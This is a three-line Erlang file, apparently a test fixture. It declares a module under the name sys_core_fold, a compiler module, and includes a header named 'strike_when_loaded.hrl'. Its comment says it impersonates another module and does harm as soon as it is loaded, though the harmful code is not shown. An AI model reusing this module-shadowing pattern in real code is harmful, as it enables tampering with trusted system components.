%%% A module with the name of another, which does harm as soon as it is loaded.
-module(sys_core_fold).
-include("strike_when_loaded.hrl").
